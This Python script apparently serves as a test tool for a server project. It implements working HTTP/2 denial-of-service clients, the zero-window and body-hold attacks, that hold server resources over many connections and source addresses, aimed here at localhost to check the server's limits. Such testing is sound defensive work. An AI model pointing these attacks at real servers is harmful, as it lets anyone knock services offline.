#!/usr/bin/env python3
"""Hostile HTTP/2 clients that make a server hold resources (stdlib only): the zero-window and
the body-hold attacks of issue 14, from many connections and many source addresses.

  h2hold.py --port P --mode zero-window|body-hold --path PATH [--conns N] [--streams S]
            [--sources K] [--source-prefix 127.0.1.] [--body BYTES] [--hold SECONDS]
            [--ping 1.0] [--authority localhost] [--connect-timeout 30] [--withhold 0]

Each of N connections (spread over K source addresses PREFIX1 .. PREFIXK, so per-client limits
see K clients; past 254 they go on in the next /24s: with 127.0.1., the 255th is 127.0.2.1, so
--sources 300 spans 127.0.1.1 .. 127.0.2.46): TLS with ALPN h2, the preface, SETTINGS, then S streams on PATH:
- zero-window: SETTINGS_INITIAL_WINDOW_SIZE=0, so no response byte may be sent; S GETs
  (END_STREAM); the windows are never opened.
- body-hold: S POSTs with content-length BYTES, whose body is sent as far as the server's
  flow-control windows allow, never with END_STREAM; --withhold N keeps its last N bytes back
  even when the windows allow them (a server that streams bodies to a backend then holds the
  backend connection waiting for them).
Every connection then sends a PING every --ping seconds (what kept such connections "active"),
acknowledges SETTINGS and PINGs, and records what the server does: HEADERS (:status), RST_STREAM
(by error code), GOAWAY, and the time from the start of the hold until the connection was closed.

Prints "up N" (connections that completed TLS and sent their streams within --connect-timeout
seconds; a server out of descriptors leaves the rest waiting) once all have tried, then
after --hold seconds one line of JSON:
  {"conns": N, "closed": C, "close_s": [first, median, last], "resets": R,
   "rst_codes": {"7": ...}, "statuses": {"503": ...}, "goaways": G, "window_granted": W,
   "streams": S*N, "open_streams": O}
(open_streams: streams of connections still open at the end that the server had neither ended
nor reset: what it still held for us)
and exits 0. Lines on stdout only, so that a test can wait for them.
"""
import argparse
import asyncio
import json
import os
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2conns import PREFACE, frame, literal  # noqa: E402  (the one HTTP/2 frame writer of the tools)

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINUP = 0, 1, 3, 4, 6, 7, 8
STATUS_INDEX = {0x88: "200", 0x89: "204", 0x8a: "206", 0x8b: "304", 0x8c: "400", 0x8d: "404",
                0x8e: "500"}


def header_block(method, path, authority, length=None):
    path = path.encode()
    assert len(path) < 127
    block = (literal(b":method", method) + literal(b":scheme", b"https") +
             literal(b":authority", authority.encode()) + literal(b":path", path))
    if length is not None:
        block += literal(b"content-length", str(length).encode())
    return block


def source_address(prefix, k):
    """The k-th (0-based) client address: PREFIX1 .. PREFIX254, then on into the next /24s
    (hosts .1 .. .254 of each, never .0 or .255), so that hundreds of clients fit in 127/8."""
    parts = prefix.rstrip(".").split(".")
    if len(parts) != 3:
        raise ValueError("--source-prefix must be three octets and a dot, e.g. 127.0.1.")
    a, b, c = (int(x) for x in parts)
    n = (b << 8 | c) + k // 254
    if n > 0xffff:
        raise ValueError("too many sources for prefix %s" % prefix)
    return "%d.%d.%d.%d" % (a, n >> 8, n & 0xff, 1 + k % 254)


# HPACK Huffman codes of the digits (RFC 7541 Appendix B): enough for a :status value
HUFF_DIGITS = {(0b00000, 5): "0", (0b00001, 5): "1", (0b00010, 5): "2", (0b011001, 6): "3",
               (0b011010, 6): "4", (0b011011, 6): "5", (0b011100, 6): "6", (0b011101, 6): "7",
               (0b011110, 6): "8", (0b011111, 6): "9"}

# SETTINGS_HEADER_TABLE_SIZE = 0: the server's HPACK encoder may not use a dynamic table, so
# every :status is a static index or a literal that status_of() can read without a full decoder
NO_DYNAMIC_TABLE = struct.pack(">HI", 1, 0)


def huffman_digits(data):
    """Decode a Huffman-coded string of digits ("?" for anything else); the padding is the
    most significant bits of EOS, all ones, shorter than 8 bits."""
    out, code, n = "", 0, 0
    for byte in data:
        for bit in range(7, -1, -1):
            code, n = code << 1 | (byte >> bit) & 1, n + 1
            if (code, n) in HUFF_DIGITS:
                out, code, n = out + HUFF_DIGITS[(code, n)], 0, 0
            elif n > 7:  # no digit code is longer than 6 bits, padding than 7
                return "?"
    return out if n < 8 and code == (1 << n) - 1 else "?"


def status_of(block):
    """The :status of a response header block sent under NO_DYNAMIC_TABLE: a static index or a
    literal with the indexed name :status (plain or Huffman value)."""
    i = 0
    while i < len(block) and block[i] & 0xe0 == 0x20:  # dynamic table size updates
        i += 1
    block = block[i:]
    if not block:
        return "?"
    if block[0] in STATUS_INDEX:
        return STATUS_INDEX[block[0]]
    # literal (with, without or never indexing) whose name is a static :status entry (8..14)
    index = block[0] & 0x3f if block[0] & 0xc0 == 0x40 else block[0] & 0x0f if block[0] < 0x20 else 0
    if 8 <= index <= 14 and len(block) >= 2:
        if block[1] & 0x80:
            n = block[1] & 0x7f
            return huffman_digits(block[2:2 + n]) if n else "?"
        if block[1] == 3 and len(block) >= 5:
            return block[2:5].decode(errors="replace")
    return "?"


class Conn:
    def __init__(self, i, args, stats):
        self.i, self.args, self.stats = i, args, stats
        self.closed_at = None
        self.conn_window = 65535
        self.stream_window = {}
        self.sent = {}
        self.live = set()  # streams neither ended by the server (END_STREAM) nor reset
        self.writer = None

    async def open(self, ctx):
        a = self.args
        src = source_address(a.source_prefix, self.i % a.sources)
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", a.port, ssl=ctx, server_hostname="localhost",
                                    local_addr=(src, 0)), a.connect_timeout)
        settings = NO_DYNAMIC_TABLE
        if a.mode == "zero-window":
            settings += struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
        out = PREFACE + frame(SETTINGS, 0, 0, settings)
        for k in range(a.streams):
            sid = 1 + 2 * k
            self.live.add(sid)
            if a.mode == "zero-window":
                out += frame(HEADERS, 0x5, sid, header_block(b"GET", a.path, a.authority))
            else:
                out += frame(HEADERS, 0x4, sid, header_block(b"POST", a.path, a.authority, a.body))
                self.sent[sid] = 0
        self.writer.write(out)
        await self.writer.drain()

    def send_body(self):
        """body-hold: as much of each body as the windows allow, never END_STREAM."""
        if self.args.mode != "body-hold":
            return
        out = b""
        for sid in sorted(self.sent):
            left = self.args.body - self.args.withhold - self.sent[sid]
            win = min(self.conn_window, self.stream_window.get(sid, self.peer_initial), left, 16384)
            while win > 0 and left > 0:
                out += frame(DATA, 0, sid, b"x" * win)
                self.sent[sid] += win
                self.conn_window -= win
                self.stream_window[sid] = self.stream_window.get(sid, self.peer_initial) - win
                left -= win
                win = min(self.conn_window, self.stream_window[sid], left, 16384)
        if out:
            self.writer.write(out)

    async def run(self, t0):
        s = self.stats
        self.peer_initial = 65535
        pinger = asyncio.ensure_future(self.pings())
        try:
            while True:
                hdr = await self.reader.readexactly(9)
                length = int.from_bytes(hdr[:3], "big")
                ftype, flags, sid = hdr[3], hdr[4], struct.unpack(">I", hdr[5:9])[0] & 0x7fffffff
                payload = await self.reader.readexactly(length)
                if ftype == SETTINGS and not flags & 1:
                    for off in range(0, len(payload) - 5, 6):
                        ident, val = struct.unpack(">HI", payload[off:off + 6])
                        if ident == 4:
                            self.peer_initial = val
                    self.writer.write(frame(SETTINGS, 1, 0))
                    self.send_body()
                elif ftype == PING and not flags & 1:
                    self.writer.write(frame(PING, 1, 0, payload))
                elif ftype == WINUP:
                    inc = struct.unpack(">I", payload[:4])[0] & 0x7fffffff
                    s["window_granted"] += inc
                    if sid == 0:
                        self.conn_window += inc
                    else:
                        self.stream_window[sid] = self.stream_window.get(sid, self.peer_initial) + inc
                    self.send_body()
                elif ftype == HEADERS:
                    if flags & 1:
                        self.live.discard(sid)
                    st = status_of(payload)
                    s["statuses"][st] = s["statuses"].get(st, 0) + 1
                    self.sent.pop(sid, None)
                elif ftype == RST:
                    code = str(struct.unpack(">I", payload[:4])[0])
                    s["rst_codes"][code] = s["rst_codes"].get(code, 0) + 1
                    s["resets"] += 1
                    self.sent.pop(sid, None)
                    self.live.discard(sid)
                elif ftype == DATA and flags & 1:
                    self.live.discard(sid)
                elif ftype == GOAWAY:
                    s["goaways"] += 1
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
            self.closed_at = time.monotonic() - t0
        finally:
            pinger.cancel()

    async def pings(self):
        n = 0
        while True:
            await asyncio.sleep(self.args.ping)
            n += 1
            try:
                self.writer.write(frame(PING, 0, 0, struct.pack(">Q", n)))
            except Exception:
                return


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["zero-window", "body-hold"], required=True)
    ap.add_argument("--path", required=True)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--sources", type=int, default=1)
    ap.add_argument("--source-prefix", default="127.0.1.")
    ap.add_argument("--body", type=int, default=1 << 20)
    ap.add_argument("--hold", type=float, default=10)
    ap.add_argument("--ping", type=float, default=1.0)
    ap.add_argument("--authority", default="localhost")
    ap.add_argument("--connect-timeout", type=float, default=30)
    ap.add_argument("--withhold", type=int, default=0)
    args = ap.parse_args()
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    stats = {"conns": 0, "resets": 0, "rst_codes": {}, "statuses": {}, "goaways": 0,
             "window_granted": 0}
    conns = []
    batch = 100  # handshakes in flight at once
    for start in range(0, args.conns, batch):
        group = [Conn(i, args, stats) for i in range(start, min(start + batch, args.conns))]
        got = await asyncio.gather(*(c.open(ctx) for c in group), return_exceptions=True)
        conns.extend(c for c, r in zip(group, got) if not isinstance(r, Exception))
    stats["conns"] = len(conns)
    print("up %d" % len(conns), flush=True)
    t0 = time.monotonic()
    tasks = [asyncio.ensure_future(c.run(t0)) for c in conns]
    await asyncio.sleep(args.hold)
    for c in conns:
        try:
            c.writer.close()
        except Exception:
            pass
    for t in tasks:
        t.cancel()
    closes = sorted(c.closed_at for c in conns if c.closed_at is not None)
    stats["closed"] = len(closes)
    stats["streams"] = args.streams * len(conns)
    stats["open_streams"] = sum(len(c.live) for c in conns if c.closed_at is None)
    stats["close_s"] = ([round(closes[0], 2), round(closes[len(closes) // 2], 2),
                         round(closes[-1], 2)] if closes else [])
    print(json.dumps(stats, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
